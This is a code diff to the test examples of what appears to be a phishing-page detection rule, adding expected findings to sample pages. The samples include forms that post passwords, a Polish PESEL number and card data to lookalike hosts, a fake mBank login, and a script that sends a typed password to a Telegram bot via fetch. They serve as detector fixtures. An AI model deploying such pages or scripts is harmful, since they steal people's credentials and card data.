@@ -100,21 +100,25 @@ export default rule({
   examples: () => ({
     hit: [
       examplePage('a password sent elsewhere', {
+        found: { says: ['sends_away'], quotes: ['https://collect-box.top/save.php'] },
         title: 'Sign in to read on',
         body: `${paragraphs(...LIBRARY)}<form method="post" action="https://collect-box.top/save.php"><input type="email" name="email"><input type="password" name="pass"><button>Sign in</button></form>`,
       }),
       examplePage('Polish identity and card data sent elsewhere', {
+        found: { says: ['sends_away'], quotes: ['https://doplata-paczki.net/p'] },
         title: 'Odbierz paczkę',
         lang: 'pl',
         body: `<p>Dopłać 1,99 zł, aby odebrać paczkę.</p><form method="post" action="https://doplata-paczki.net/p"><input name="pesel" placeholder="PESEL"><input name="cardnumber" autocomplete="cc-number"><input name="cvv"><button>Zapłać</button></form>`,
       }),
       examplePage('a bank’s name on a strange host', {
+        found: { says: ['poses_as_brand'], quotes: ['mBank – logowanie do serwisu'] },
         title: 'mBank – logowanie do serwisu',
         lang: 'pl',
         url: 'https://secure-klient24.com/login',
         body: '<p>Zaloguj się, aby potwierdzić konto.</p><form method="post" action="/next"><input name="login"><input type="password" name="haslo"><button>Zaloguj</button></form>',
       }),
       examplePage('passwords sent to a bot', {
+        found: { says: ['script_sends'], quotes: ["fetch('https://api.telegram.org/bot123:abc/sendMes"] },
         title: 'Members',
         body: `${paragraphs(...BICYCLE)}<form id="f"><input name="user"><input type="password" name="p"><button>Sign in</button></form><script>
           document.getElementById('f').onsubmit = function () { fetch('https://api.telegram.org/bot123:abc/sendMessage?text=' + this.p.value); };</script>`,
